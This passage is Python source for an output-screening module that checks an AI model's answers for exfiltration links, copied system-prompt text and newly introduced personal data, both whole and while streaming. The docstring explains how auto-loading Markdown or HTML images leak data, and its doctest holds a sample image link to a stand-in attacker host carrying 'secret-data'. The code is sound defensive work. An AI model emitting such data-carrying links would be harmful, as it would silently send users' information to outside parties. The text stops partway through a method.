"""Screening what the model answers (出口の確認): exfiltration links, leaked system prompts,
and personal information that the request did not contain.

- **Exfiltration**: a Markdown or HTML image pointing outside the allowed domains (an
  image loads by itself: whatever its URL carries leaves without a click), and a link or
  bare URL outside them whose query or fragment carries data, or that carries a value
  from the request (percent-encoded or not). A link is read as a browser or a Markdown
  renderer reads it: a scheme in any case (HTTPS://), scheme-relative (//host), HTML
  entities decoded (https&#58;//), single-quoted and parenthesised titles, labels over
  lines and with brackets; HTML elements that load by themselves (img, SVG image, video
  poster, srcset, iframe …); a reference definition (``[1]: URL``) to a foreign host
  counts as an image.
- **System-prompt leakage**: 30 or more consecutive characters copied from a system or
  developer message of the request (found with 16-character shingles, linear time).
- **New personal information**: personal values the detector finds in the answer that do
  not occur in the request (a name, phone number or address the model brought in).

Each is removed (replaced by a short notice), masked, only reported, or not looked for,
as the policy says. :class:`OutputStream` does the same on a stream, holding back only the
end of the answer that could still become one of them (a link not yet closed, a run of
characters a value may still grow into, the start of a possible copy) and releasing the
rest at once.

>>> s = OutputScreen(OutputRules(), request_text="要約して")
>>> text, found = s.screen("要約です。![x](https://evil.example/p.png?d=secret-data)")
>>> text
'要約です。［外部に情報を送るおそれがある画像・リンクを取り除きました］'
>>> [f.kind for f in found]
['exfiltration']
"""

from __future__ import annotations

import html
import re
from collections import deque
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field, replace
from typing import Any, Literal
from urllib.parse import unquote, urlsplit

from hinagata.detect import Detector, Finding, default_detector
from hinagata.mask import PLACEHOLDER_LABELS

__all__ = ["OutputFinding", "OutputRules", "OutputScreen", "OutputStream"]

Action = Literal["remove", "report", "off"]
PersonalAction = Literal["mask", "report", "off"]

EXFIL_NOTICE = "［外部に情報を送るおそれがある画像・リンクを取り除きました］"
LEAK_NOTICE = "［システムの設定にあたる内容を取り除きました］"

#: A link's destination (no ``[`` or ``<`` in it: a stream holds each open link, and
#: ``[x]([x](…`` must not keep hundreds open), its optional title ("t", 't' or (t)) and
#: the link's end. Any destination is read (a scheme in any case: HTTPS://, scheme-relative //host, entities a
#: renderer decodes: https&#58;//); :func:`_url_host` says whether and where it goes.
_TITLE = r"""(?:\s+(?:"[^"\n]{0,200}"|'[^'\n]{0,200}'|\([^()\n]{0,200}\)))?"""
#: A link's label: up to 1,000 characters, over lines, with brackets nested once
#: (CommonMark: ``![a [b] c](…)``); each character starts one alternative only (linear).
_LABEL = r"(?:[^\[\]]|\[[^\[\]]{0,1000}\]){0,1000}"
_MD_LINK = re.compile(
    r"(?P<bang>!?)\[(?P<label>"
    + _LABEL
    + r")\]\(\s*<?(?P<url>[^\s)>[<]{1,2000})>?"
    + _TITLE
    + r"\s*\)"
)
#: A Markdown reference definition (``[1]: URL``, which ``![x][1]`` and ``[x][1]`` use):
#: one to a foreign host is read as an image, wherever it stands (a renderer needs it at
#: a line's start; reading it anywhere is the stricter).
_MD_DEF = re.compile(r"\[(?P<label>[^\]\n]{1,500})\]:[ \t]*<?(?P<url>[^\s>[<]{1,2000})")
#: An HTML element that loads what one of its attributes names by itself (an image, SVG's
#: <image href>, a video's poster, a srcset, an embedded frame): the attributes are read
#: by _MEDIA_ATTR.
_MEDIA = "img|image|video|audio|source|input|embed|iframe|object|track|picture"
_HTML_IMG = re.compile(rf"<(?:{_MEDIA})\b[^>]{{0,3000}}>", re.IGNORECASE)
_MEDIA_ATTR = re.compile(
    r"\b(?:src|srcset|poster|href|data|background)\s*=\s*(?:\"(?P<q>[^\"]{0,2000})\"|'(?P<s>[^']{0,2000})'"
    r"|(?P<u>[^\s\"'>]{1,2000}))",
    re.IGNORECASE,
)
#: A bare URL: a browser and a renderer take HTTPS:// as https://.
_BARE_URL = re.compile(r"[hH][tT][tT][pP][sS]?://[^\s<>()\[\]「」『』、。\"']{1,2000}")
#: The start of a URL whose scheme is http or https however written: slashes and
#: backslashes after it (https:/h, https:\\h) are what a browser reads as ``//``.
_SPECIAL = re.compile(r"(https?):[/\\]*", re.IGNORECASE)
_SHINGLE = 16
_MIN_LEAK = 30
#: A query or fragment at least this long counts as carrying data.
_DATA_QUERY = 8


@dataclass(frozen=True)
class OutputRules:
    """What to do with each kind of finding (the policy's ``output`` section)."""

    exfiltration: Action = "remove"
    system_prompt_leak: Action = "remove"
    new_personal: PersonalAction = "mask"
    #: Hosts (and their subdomains) to which images and links are never removed.
    allowed_domains: tuple[str, ...] = ()


@dataclass(frozen=True)
class OutputFinding:
    #: exfiltration | system_prompt_leak | new_personal
    kind: str
    #: Offsets in the answer as the model wrote it (after restoring placeholders).
    start: int
    end: int
    #: removed | masked | reported
    action: str
    #: The host of a link, or the type of a personal value (never the value itself).
    detail: str = ""

    def to_dict(self) -> dict[str, Any]:
        return {
            "kind": self.kind,
            "start": self.start,
            "end": self.end,
            "action": self.action,
            "detail": self.detail,
        }


def _url_host(url: str) -> tuple[str | None, int]:
    """Where a link's destination goes as a browser reads it — HTML entities decoded
    (https&#58;//, &amp;), tabs and line breaks dropped, backslashes as slashes, any number
    of them after http(s): — and how many characters its query and fragment carry;
    (None, 0) for a destination without a host (relative: it stays on the page's site).
    Raises ValueError for one that is no URL at all."""
    if "&" in url:
        url = html.unescape(url)
    url = url.replace("\\", "/").replace("\t", "").replace("\n", "").replace("\r", "")
    m = _SPECIAL.match(url)
    if m is not None:
        url = m.group(1) + "://" + url[m.end() :]
    parts = urlsplit(url)
    if not parts.netloc:
        return None, 0
    return parts.hostname or "", len(parts.query) + len(parts.fragment)


def _host_allowed(host: str, allowed: Iterable[str]) -> bool:
    host = host.lower().rstrip(".")
    return any(host == d or host.endswith("." + d) for d in allowed)


class OutputScreen:
    """The exit screening of one request's answers (thread-safe: no mutable state)."""

    def __init__(
        self,
        rules: OutputRules,
        *,
        request_text: str = "",
        request_values: Iterable[str] | None = None,
        system_texts: Sequence[str] = (),
        detector: Detector | None = None,
    ) -> None:
        """``request_values``: the personal values of the request (a link carrying one is
        exfiltration); None: found here with the detector (the gateway passes the
        judgment's findings instead of scanning twice)."""
        self.rules = rules
        self._allowed = tuple(d.lower().strip(".") for d in rules.allowed_domains)
        self._request = request_text
        self._request_compact = _compact(request_text)
        if request_values is None:
            request_values = self._values_of(request_text, detector) if request_text else ()
        self._request_values = tuple(v for v in request_values if len(v) >= 4)
        self._systems = tuple(t for t in system_texts if len(t) >= _MIN_LEAK)
        self._shingles: frozenset[str] = frozenset(
            t[i : i + _SHINGLE] for t in self._systems for i in range(len(t) - _SHINGLE + 1)
        )
        self._detector = detector

    @staticmethod
    def _values_of(text: str, detector: Detector | None) -> tuple[str, ...]:
        found = (detector or default_detector()).scan(text)
        return tuple({f.text for f in found if f.personal and f.type in PLACEHOLDER_LABELS})

    @property
    def alters(self) -> bool:
        """Whether screening may change the text (remove or mask), so a stream must wait."""
        r = self.rules
        return (
            r.exfiltration == "remove"
            or r.system_prompt_leak == "remove"
            or r.new_personal == "mask"
        )

    def allows(self, host: str) -> bool:
        """Whether ``host`` is one of the allowed domains or below one."""
        return _host_allowed(host, self._allowed)

    @property
    def active(self) -> bool:
        r = self.rules
        return (r.exfiltration, r.system_prompt_leak, r.new_personal) != ("off", "off", "off")

    @property
    def _copies_on(self) -> bool:
        return self.rules.system_prompt_leak != "off" and bool(self._shingles)

    def screen(self, text: str) -> tuple[str, list[OutputFinding]]:
        """The answer with removals and masks applied, and what was found."""
        if not text or not self.active:
            return text, []
        edits: list[tuple[int, int, str]] = []
        found: list[OutputFinding] = []
        if self.rules.exfiltration != "off":
            for s, e, host in self._links(text):
                if host is not None:
                    found.append(self._exfil_finding(s, e, host, edits))
        if self._copies_on:
            for s, e in self._leaks(text):
                found.append(self._leak_finding(s, e))
                if self.rules.system_prompt_leak == "remove":
                    edits.append((s, e, LEAK_NOTICE))
        if self.rules.new_personal != "off":
            for f in self._values(text):
                if self._is_new(f):
                    found.append(self._personal_finding(f.start, f.end, f.type, edits))
        return _apply(text, edits), sorted(found, key=lambda f: (f.start, f.end))

    def _exfil_finding(
        self, s: int, e: int, host: str, edits: list[tuple[int, int, str]]
    ) -> OutputFinding:
        act = "removed" if self.rules.exfiltration == "remove" else "reported"
        if act == "removed":
            edits.append((s, e, EXFIL_NOTICE))
        return OutputFinding("exfiltration", s, e, act, host)

    def _leak_finding(self, s: int, e: int) -> OutputFinding:
        act = "removed" if self.rules.system_prompt_leak == "remove" else "reported"
        return OutputFinding("system_prompt_leak", s, e, act)

    def _personal_finding(
        self, s: int, e: int, kind: str, edits: list[tuple[int, int, str]]
    ) -> OutputFinding:
        act = "masked" if self.rules.new_personal == "mask" else "reported"
        if act == "masked":
            edits.append((s, e, f"〔{PLACEHOLDER_LABELS[kind]}〕"))
        return OutputFinding("new_personal", s, e, act, kind)

    # ------------------------------------------------------------------ personal values

    def _values(self, text: str) -> list[Finding]:
        """The detector's findings of the types a placeholder stands for (personal or not)."""
        found = (self._detector or default_detector()).scan(text)
        return [f for f in found if f.type in PLACEHOLDER_LABELS]

    def _is_new(self, f: Finding) -> bool:
        """A personal value the request did not contain (the model brought it in)."""
        return f.personal and not (
            f.text in self._request or _compact(f.text) in self._request_compact
        )

    # ------------------------------------------------------------------ exfiltration

    def _links(self, text: str) -> list[tuple[int, int, str | None]]:
        """Every image, link and bare URL with the host when it may carry data out."""
        out: list[tuple[int, int, str | None]] = []
        taken: list[tuple[int, int]] = []
        if "](" in text:
            for m in _MD_LINK.finditer(text):
                if _url_host(m["url"])[0] is None:
                    continue  # (no host: a relative link, or text in brackets)
                taken.append(m.span())
                out.append((m.start(), m.end(), self._suspect(m["url"], image=bool(m["bang"]))))
        if "]:" in text:
            for m in _MD_DEF.finditer(text):
                if _url_host(m["url"])[0] is None:
                    continue
                taken.append(m.span())
                out.append((m.start(), m.end(), self._suspect(m["url"], image=True)))
        if "<" in text:
            for m in _HTML_IMG.finditer(text):
                urls = [
                    u
                    for a in _MEDIA_ATTR.finditer(m.group())
                    for u in re.split(r"[\s,]+", a["q"] or a["s"] or a["u"] or "")
                    if u and _url_host(u)[0] is not None
                ]
                if not urls:
                    continue  # (no host: relative, or nothing that loads)
                taken.append(m.span())
                host = next((h for u in urls if (h := self._suspect(u, image=True))), None)
                out.append((m.start(), m.end(), host))
        if "http" in text.lower():
            for m in _BARE_URL.finditer(text):
                if any(s <= m.start() < e for s, e in taken):
                    continue
                out.append((m.start(), m.end(), self._suspect(m.group(), image=False)))
        return out

    def _suspect(self, url: str, *, image: bool) -> str | None:
        """The host if the URL may carry data out, else None."""
        try:
            host, carried = _url_host(url)
        except ValueError:
            return "invalid-url"
        if host is None or _host_allowed(host, self._allowed):
            return None
        if image:
            return host
        if carried >= _DATA_QUERY:
            return host
        decoded = unquote(url)
        if any(v in decoded or _compact(v) in decoded for v in self._request_values):
            return host
        return None

    # ------------------------------------------------------------------ leakage

    def _leaks(self, text: str) -> list[tuple[int, int]]:
        return [(s, e) for s, e in self._runs(text) if e - s >= _MIN_LEAK]

    def _runs(self, text: str) -> list[tuple[int, int]]:
        covered: list[tuple[int, int]] = []
        shingles = self._shingles
        for i in range(len(text) - _SHINGLE + 1):
            if text[i : i + _SHINGLE] in shingles:
                if covered and i <= covered[-1][1]:
                    covered[-1] = (covered[-1][0], i + _SHINGLE)
                else:
                    covered.append((i, i + _SHINGLE))
        return covered

    def _may_start_copy(self, tail: str) -> bool:
        """Whether ``tail`` (shorter than a shingle) can still grow into one: it occurs in a
        system text early enough for a whole shingle to follow (the first occurrence is the
        earliest)."""
        return any(0 <= t.find(tail) <= len(t) - _SHINGLE for t in self._systems)


# ---------------------------------------------------------------------------- streams

#: Right context every release keeps: a name in hiragana of up to four letters and the
#: first letter of its honorific (はなこさ|ん), so that 「はなこさん」 is read whole.
_LAG = 5
#: Characters that still join two runs of value characters into one value, one at a time
#: (佐藤 花子, 090 1234 5678, 霞が関, 丸の内, 3番地の5), and a comma with a space in Latin
#: letters (5-12 Ishizuka, Kawasaki-ku): any other character ends the run.
_JOINERS = frozenset(" \u3000がの,")
#: A run ending in one of these may go on in hiragana (茨城県ひたちなか市, 埼玉県さいたま市).
_PLACE_SUFFIX = frozenset("都道府県市区郡町村")
_KANA_PLACE = 6
#: A run naming a place without its municipality (大字宮田, 字東谷, 北浜地区, 日吉本町):
#: the detector reads it as a home when its sentence, up to 60 characters on, is about
#: someone (大字東原で養鶏場を経営する男性), so it waits for its sentence.
_PLACE_RUN = re.compile(r"字|地区|集落|団地|部落|ニュータウン|(?:[町村]|丁目)(?:の|$)")
_PLACE_SENTENCE = 60
#: A run of value characters takes in the hiragana right before it (さいたま市, はなこ様).
_KANA_BEFORE = _LAG
#: A look at the held text releases at least this many characters, unless it can release
#: everything or up to a break (the detector runs about once per this many characters of
#: plain text, not once per character).
_STEP = 4
#: Left context every look reads: the detector weighs a contact with the 80 characters of
#: its line before it (a name makes it personal, 代表 or 窓口 institutional). The window
#: begins after a break or a space among its first _CONTEXT - _CONTEXT_MIN characters, if
#: there is one, so that its analysis does not begin inside a word.
_CONTEXT = 100
_CONTEXT_MIN = 80
_WORD_END = re.compile(r"[。、！？!?\n\r，,：:\s]")
#: Right context a value found needs before it is released: the detector's window after a
#: contact (_WINDOW_AFTER); more for a name judged public and for an address that may be
#: a place (see OutputStream._settles_at).
_SETTLE = 16
_SETTLE_LONG = 120
#: Words after an address that make the detector read it as a place, not a home (a looser
#: form of its _LOCATION_AFTER: 北町二丁目12番付近の市道).
_PLACE_AFTER = re.compile(r"付近|周辺|地内|一帯|先|交差点|道|水路|河川|用水|側溝|公園")
#: Characters after which the text can be released at once: a value never runs across them.
_BREAK = frozenset("。、！？!?\n\r，：:")
_SPACE = frozenset(" \u3000\t")
_SENTENCE_STOP = frozenset("。！？\n")


def _url_open(chars: str) -> str:
    """Every prefix of ``https?://`` (in any case) followed by up to 2,000 of ``chars``."""
    return r"[hH](?:[tT](?:[tT](?:[pP](?:[sS]?(?::(?:/(?:/" + chars + r"{0,2000})?)?)?)?)?)?)?"


#: Every prefix of a title and the end of a Markdown link (see _TITLE).
_TITLE_OPEN = (
    r"""(?:\s+(?:"[^"\n]{0,200}(?:"\s*)?|'[^'\n]{0,200}(?:'\s*)?|\([^()\n]{0,200}(?:\)\s*)?)?"""
    r"|\s*)"
)
# What an unfinished link, image or URL may look like (every prefix of a match of
# _MD_LINK, _HTML_IMG, _BARE_URL matches these in full): held until it completes or dies.
_MD_OPEN = re.compile(
    r"!?(?:\["
    + _LABEL
    + r"(?:\[[^\[\]]{0,1000})?(?:\](?:\(\s*<?(?:[^\s)>[<]{1,2000}>?"
    + _TITLE_OPEN
    + r")?|:[ \t]*<?[^\s>[<]{0,2000})?)?)?"
)


def _word_open(word: str, rest: str) -> str:
    """Every prefix of ``word`` followed by ``rest``."""
    out = rest
    for ch in reversed(word):
        out = f"{ch}(?:{out})?"
    return out


_IMG_OPEN = re.compile(
    "<(?:" + "|".join(_word_open(w, r"(?=\W)[^>]{0,3000}") for w in _MEDIA.split("|")) + ")?",
    re.IGNORECASE,
)
_URL_CHARS = r"[^\s<>()\[\]「」『』、。\"']"
_URL_OPEN = re.compile(_url_open(_URL_CHARS))
_OPENERS = {"!": _MD_OPEN, "[": _MD_OPEN, "<": _IMG_OPEN, "h": _URL_OPEN, "H": _URL_OPEN}


@dataclass(frozen=True)
class _Tail:
    """The open end of an open pattern: once ``head`` has matched from a candidate's start
    and the candidate still matches, the pattern accepts what follows exactly when it is
    up to ``most`` characters of ``char``. Candidates in their tail are kept as one group
    per pattern, oldest first: a character ``char`` refuses ends them all, and one past
    ``most`` ends the oldest ones; no full match from each start at every character (a
    stream of ``<img <img …`` or ``https://a…`` kept hundreds of candidates open, each
    matched again from its start at every character: 8 s for 4,000 characters). Exact: it
    decides what the full match decides. A head holds no opener after its first character,
    so a later candidate's tail also begins later (the group is in the order of starts)."""

    head: re.Pattern[str]
    char: re.Pattern[str]
    most: int


_TAILS = {
    _URL_OPEN: _Tail(re.compile(r"[hH][tT][tT][pP][sS]?://"), re.compile(_URL_CHARS), 2000),
    _IMG_OPEN: _Tail(re.compile(rf"<(?:{_MEDIA})(?=\W)", re.IGNORECASE), re.compile(r"[^>]"), 3000),
}
#: Where an open image or Markdown link's destination has begun (as written so far).
_URL_BEGUN = re.compile(
    r"(?:\]\(\s*<?|\]:[ \t]*<?|\b(?:src|srcset|poster|href|data|background)\s*=\s*[\"']?)"
    r"(?P<url>[^\s)>\"']+)",
    re.IGNORECASE,
)


def _is_value(ch: str) -> bool:
    return _VALUE_CHAR.match(ch) is not None


def _is_kana(ch: str) -> bool:
    return "\u3041" <= ch <= "\u309f"


@dataclass
class OutputStream:
    """Exit screening of one streamed answer, holding back only what could still match.

    **What is held.** After each character the stream finds the earliest position at which
    something unfinished may start, and holds the text from there:

    - a link, image or URL not yet closed: every prefix of a match of the link patterns
      matches an "open" pattern in full (``_MD_OPEN``, ``_IMG_OPEN``, ``_URL_OPEN``), so
      nothing that can still become a link is released, and one that no longer can is
      dropped for good;
    - a run that may still become or extend a personal value: value characters (digits,
      Latin letters, kanji, katakana, the signs of numbers and addresses) joined by single
      spaces, が, の or commas (佐藤 花子, 090 1234 5678, 霞が関, Kawasaki-ku, Kanagawa),
      with up to five hiragana just before it (さいたま市, はなこ様) and up to six after a
      prefecture, city or town (茨城県ひたちなか市), until another character follows it;
      one naming a place without its municipality (大字宮田, 北浜地区, 本町の) until its
      sentence ends or 60 characters on (it is a home if the sentence is about someone);
    - always the last five characters (not before a break: 。、！？: or a line break),
      widened to the hiragana word before a space among them (さとう はなこ) and to the whole
      of a run a space joined (ﾏﾂﾀﾞ ｱｵｲ), and never cut between two value characters: a
      name and its honorific (はなこさ|ん) are read together;
    - a copy of a system message shorter than 30 characters that a next shingle may still
      extend, and the longest end of the text that may still begin a shingle (a copy 30
      long already is removed as it grows: only its open end waits);
    - a value the detector found, until the context that may still change its verdict has
      come (16 characters or a line break; 120 characters for a name judged public or
      nobody's, its sentence for an address followed by a word of a place); and no cut
      falls inside a value or a link found.

    **Screening what is released.** When what is held could shrink by four characters or
    more, to nothing, or past a break, or a value waited for has its context, the stream
    *looks*: it screens a window — 80 to 100 characters of released text as left context
    (from a break or a space, where there is one) and everything held — and releases up
    to the earliest position above, with the edits the window's screening makes there.
    Copies of a system message are judged on the whole answer (the runs are kept from its
    first character), exactly as :meth:`OutputScreen.screen` judges them.
    When ``max_hold`` characters are held, the stream releases up to the first hold that
    began later (an open link: a quarter of ``max_hold`` later), never between two value characters of a run up to 80 long, else
    everything held.

    **Why the cuts do not matter.** :meth:`feed` hands its piece to :meth:`_step` one
    character at a time, and nothing else reads the piece. A step reads only the stream's
    state and the text up to its own character (the window ends there, holds and releases
    are positions before it), and changes only the state; whether it looks is decided by
    that state too. By induction over the characters, the state after any character —
    what was released and found, what is held, the open links and runs, the copies, when
    the next look is due — is a function of the text up to that character alone, not of
    where the pieces ended. Any two cuttings of one answer (one piece, a character at a
    time, anything between) therefore go through the same states, release the same text
    with the same findings at the same characters, and :meth:`flush` starts from the same
    state. Released text is never looked at again: what arrives later cannot change it.
    The work per character is a constant plus the open links' patterns over what is held;
    a look reads one window of at most 100 characters plus what is held, about once per
    four to eight characters of plain text.

    **Against the whole answer** (:meth:`OutputScreen.screen`): links and copies are found
    and removed exactly as there (a copy longer than ``max_hold`` too). A personal value is
    judged with the context its window holds: cues further back, further on than its
    settling context, or anywhere in the answer (a publication, a template) are not seen.
    A value whose beginning went out before the detector could see it whole — a name in
    hiragana of two words longer than the lag, a town name with kana inside it after its
    municipality (横浜市青葉区美しが丘), a name confirmed by an e-mail address further on —
    has what is still held of it masked and is reported whole. Past ``max_hold`` a value
    or a link can be cut, and each part is screened as it comes.
    """

    screen: OutputScreen
    max_hold: int = 400
    findings: list[OutputFinding] = field(default_factory=list)
    #: The answer from _base on (only the context the next look needs is kept).
    _text: str = field(default="", init=False, repr=False)
    _base: int = field(default=0, init=False, repr=False)
    _seen: int = field(default=0, init=False, repr=False)
    _released: int = field(default=0, init=False, repr=False)
    #: Start of the open run of value characters (None: none is open), and its end.
    _run: int | None = field(default=None, init=False, repr=False)
    _run_end: int = field(default=0, init=False, repr=False)
    #: The last run of words a space joined (Claire Dubois), kept whole in the lag.
    _words: tuple[int, int] | None = field(default=None, init=False, repr=False)
    #: A run naming a place (大字宮田) from its start until its sentence ends or the
    #: position given: the detector reads it as an address if the sentence is about someone.
    _place: tuple[int, int] | None = field(default=None, init=False, repr=False)
    _gap: int = field(default=0, init=False, repr=False)
    _kana: int | None = field(default=None, init=False, repr=False)
    #: Just after the last break character.
    _break: int = field(default=0, init=False, repr=False)
    #: Starts of links, images and URLs that may still match, with their open pattern.
    _heads: list[tuple[int, re.Pattern[str]]] = field(default_factory=list, init=False, repr=False)
    #: Open candidates in their tail (see _Tail), per pattern: (start, where the tail begins).
    _tails: dict[re.Pattern[str], deque[tuple[int, int]]] = field(
        default_factory=lambda: {pat: deque() for pat in _TAILS}, init=False, repr=False
    )
    #: Copy runs still open, or over but not yet released and reported.
    _copies: list[tuple[int, int]] = field(default_factory=list, init=False, repr=False)
    #: The earliest start of a shingle still possible.
    _pend: int = field(default=0, init=False, repr=False)
    _next_look: int = field(default=0, init=False, repr=False)
    #: Spans of personal values reported (recent ones), so none is reported twice.
    _reported: list[tuple[int, int]] = field(default_factory=list, init=False, repr=False)
    #: Starts of links still open at the last release point (read from their start on).
    _straddles: list[int] = field(default_factory=list, init=False, repr=False)
    #: Starts of links released in part whose rest was removed (reported once).
    _cut_links: list[int] = field(default_factory=list, init=False, repr=False)

    def feed(self, piece: str) -> str:
        """Text released by this piece (the same, whatever the cuts; see the class)."""
        if not self.screen.active:
            return piece
        start = self._seen
        self._text += piece
        out = "".join([self._step(c) for c in range(start + 1, start + len(piece) + 1)])
        # Report-only: nothing can change, so nothing waits; the text is still screened
        # (above) for the record.
        return out if self.screen.alters else piece

    def flush(self) -> str:
        """The rest of the answer, screened; every open run and link is over."""
        if not self.screen.active:
            return ""
        out = self._look(self._seen, self._seen, final=True)
        return out if self.screen.alters else ""

    def joint(self) -> str:
        """The end of one part of the answer that a next part continues (a content part,
        a text block: clients show them one after the other). Everything held is released,
        screened with what is known now, and the reading goes on: a link, an image or a
        value that the next part completes is screened with this part as its left context,
        and what of it comes after the joint is removed or masked (a link split over two
        parts never works whole; a phone number completed in the next part is masked
        there)."""
        if not self.screen.active:
            return ""
        out = self._look(self._seen, self._seen, joint=True)
        return out if self.screen.alters else ""

    def _open_at_joint(self) -> list[tuple[int, int, str]]:
        """Images and Markdown links whose URL has begun but not ended at a joint, with
        their host (``unknown`` before it is written) if it is not an allowed one: the next
        part could complete them, so they go (a link split over two parts is no link)."""
        if self.screen.rules.exfiltration == "off":
            return []
        t, b, c = self._text, self._base, self._seen
        out = []
        for s, pat in self._open:
            if pat is _URL_OPEN:
                continue  # (a bare URL is whole as it stands; what continues it is read on)
            m = _URL_BEGUN.search(t, s - b, c - b)
            if m is None:
                continue
            try:
                host = _url_host(m.group("url"))[0] or ""
            except ValueError:
                host = ""
            if not (host and _host_allowed(host, self.screen._allowed)):
                out.append((s, c, host or "unknown"))
        return out

    @property
    def pending(self) -> bool:
        return self._seen > self._released

    # ------------------------------------------------------------------ one character

    def _step(self, c: int) -> str:
        """Read the answer's ``c``-th character; the text released by it."""
        self._seen = c
        rules = self.screen.rules
        ch = self._text[c - 1 - self._base]
        if rules.new_personal != "off":
            self._read_value_char(ch, c)
        if rules.exfiltration != "off":
            self._read_link_char(ch, c)
        if self.screen._copies_on:
            self._read_copy_char(c)
        held = self._hold(c)
        if c - self._released >= self.max_hold:
            return self._look(c, held, forced=True)
        if held <= self._released or (c < self._next_look and ch not in _SENTENCE_STOP):
            return ""
        if (
            held - self._released < _STEP
            and held < c
            and rules.new_personal != "off"
            and not _BREAK.intersection(self._text[self._released - self._base : held - self._base])
        ):
            return ""  # (a look runs the detector: not for a character or two)
        return self._look(c, held)

    def _read_value_char(self, ch: str, c: int) -> None:
        p = c - 1
        if self._place is not None and c > self._place[1]:
            self._place = None
        if ch in _BREAK:
            self._close_run(ch)
            self._gap, self._kana, self._break = 0, None, c
            if ch in _SENTENCE_STOP:
                self._place = None
        elif _is_value(ch):
            if self._gap and "a" <= ch <= "z":
                self._close_run(ch)  # (words of English, not a name: Taro Yamada, please)
            if self._run is None:
                self._run = p if self._kana is None else max(self._kana, p - _KANA_BEFORE)
            self._gap, self._kana, self._run_end = 0, None, c
        else:
            self._gap += 1
            if self._run is not None and not self._joins(ch):
                self._close_run(ch)
            if not _is_kana(ch):
                self._kana = None
            elif self._kana is None:
                self._kana = p

    def _joins(self, ch: str) -> bool:
        """Whether the gap read so far, ending in ``ch``, may still lie inside one value."""
        t, b = self._text, self._base
        if self._gap == 1:
            return ch in _JOINERS or (
                _is_kana(ch) and t[self._run_end - 1 - b] in _PLACE_SUFFIX  # 茨城県ひたちなか市
            )
        if _is_kana(ch) and t[self._run_end - 1 - b] in _PLACE_SUFFIX:
            return self._gap <= _KANA_PLACE and _is_kana(t[self._run_end + self._gap - 2 - b])
        # (Kawasaki-ku, Kanagawa: the parts of an address in Latin letters)
        return self._gap == 2 and ch == " " and t[self._run_end - b] == ","

    def _close_run(self, ch: str) -> None:
        """The open run is over: a place named in it waits for its sentence."""
        run = self._run
        if run is None:
            return
        self._run = None
        t, b = self._text, self._base
        # (of a run longer than the context kept, only what is kept is read)
        lo, hi = max(run, b) - b, self._run_end - b
        if _SPACE.intersection(t[lo:hi]):
            self._words = (run, self._run_end)
        if ch not in _SENTENCE_STOP and _PLACE_RUN.search(t, lo, hi):
            start = run if self._place is None else min(run, self._place[0])
            self._place = (start, self._run_end + _PLACE_SENTENCE)

    @property
    def _open(self) -> list[tuple[int, re.Pattern[str]]]:
        """Links, images and URLs begun and not yet ended or dead: (start, pattern)."""
        tails = [(st, pat) for pat, group in self._tails.items() for st, _ in group]
        return sorted([*self._heads, *tails], key=lambda o: o[0])

    def _open_from(self) -> int | None:
        """Where the earliest open link, image or URL begins (None: none is open)."""
        starts = [s for s, _ in self._heads] + [g[0][0] for g in self._tails.values() if g]
        return min(starts) if starts else None

    def _read_link_char(self, ch: str, c: int) -> None:
        t, b = self._text, self._base
        for pat, group in self._tails.items():
            if not group:
                continue
            tail = _TAILS[pat]
            if tail.char.match(ch) is None:
                group.clear()
            else:
                while group and c - group[0][1] > tail.most:
                    group.popleft()
        heads: list[tuple[int, re.Pattern[str]]] = []
        for st, pat in self._heads:
            if pat.fullmatch(t, st - b, c - b) is None:
                continue
            spec = _TAILS.get(pat)
            head = spec.head.match(t, st - b, c - b) if spec is not None else None
            if head is not None and head.end() < c - b:
                self._tails[pat].append((st, head.end() + b))
            else:
                heads.append((st, pat))
        self._heads = heads
        opener = _OPENERS.get(ch)
        if opener is not None:
            self._heads.append((c - 1, opener))

    def _read_copy_char(self, c: int) -> None:
        t, b = self._text, self._base
        i = c - _SHINGLE
        if i >= 0 and t[i - b : c - b] in self.screen._shingles:
            if self._copies and i <= self._copies[-1][1]:
                self._copies[-1] = (self._copies[-1][0], c)
            else:
                self._copies.append((i, c))
        # (a tail that cannot begin a shingle now never will: the earliest start only moves on)
        p = max(self._pend, c - _SHINGLE + 1)
        while p < c and not self.screen._may_start_copy(t[p - b : c - b]):
            p += 1
        self._pend = p

    # ------------------------------------------------------------------ what is held

    def _hold(self, c: int) -> int:
        """The earliest position something unfinished may start at (c: nothing)."""
        rules = self.screen.rules
        held = c
        if rules.new_personal != "off":
            held = self._value_hold(c)
        first = self._open_from()
        if first is not None:
            held = min(held, first)
        if self.screen._copies_on:
            held = min(held, self._copy_hold())
        return held

    def _value_hold(self, c: int) -> int:
        t, b = self._text, self._base
        lo = max(self._break, c - _LAG)
        if lo < c:
            # A space in the lag joins the hiragana word before it (さとう はなこ: one name).
            space = next((j for j in range(lo, c) if t[j - b] in _SPACE), None)
            if space is not None:
                k, floor = space, max(self._break, space - _LAG)
                while k > floor and _is_kana(t[k - 1 - b]):
                    k -= 1
                lo = min(lo, k)
            # Nor inside words a space joined (ﾏﾂﾀﾞ ｱｵｲ|さん: the name is read with its
            # honorific whole).
            if self._words is not None and self._words[0] < lo < self._words[1]:
                lo = self._words[0]
            # Never between two value characters: a value crossing the cut would be screened
            # in two halves (a run longer than _VALUE_MAX is cut where it must be).
            if lo > self._released and _is_value(t[lo - b]) and _is_value(t[lo - 1 - b]):
                k, floor = lo, max(self._released, lo - _VALUE_MAX)
                while k > floor and _is_value(t[k - 1 - b]):
                    k -= 1
                if k == self._released or not _is_value(t[k - 1 - b]):
                    lo = k
        if self._place is not None:
            lo = min(lo, self._place[0])
        return lo if self._run is None else min(lo, self._run)

    def _copy_hold(self) -> int:
        held = self._pend
        if self._copies:
            s, e = self._copies[-1]
            if e >= self._pend and e - s < _MIN_LEAK:
                held = min(held, s)
        return held

    # ------------------------------------------------------------------ looking and releasing

    def _look(
        self, c: int, held: int, *, forced: bool = False, final: bool = False, joint: bool = False
    ) -> str:
        """Screen the window ending at ``c`` and release what may go (``joint``: all of it,
        the reading goes on)."""
        scr, a, b = self.screen, self._released, self._base
        links: list[tuple[int, int, str | None]] = []
        values: list[Finding] = []
        if c > a:
            ws = min([self._window_start(), *self._straddles])
            window = self._text[ws - b : c - b]
            if scr.rules.exfiltration != "off":
                links = [(s + ws, e + ws, h) for s, e, h in scr._links(window)]
            if scr.rules.new_personal != "off":
                values = [_shifted(f, ws) for f in scr._values(window)]
        cut = held
        next_look = c + 1
        if not (final or joint):
            waiting = [
                (f.start, at)
                for f in values
                if f.start >= a and (at := self._settles_at(f, c)) is not None
            ]
            if waiting and min(waiting)[0] < cut:
                # Nothing from this value on can go before its context has come: look again
                # then (or at a sentence end).
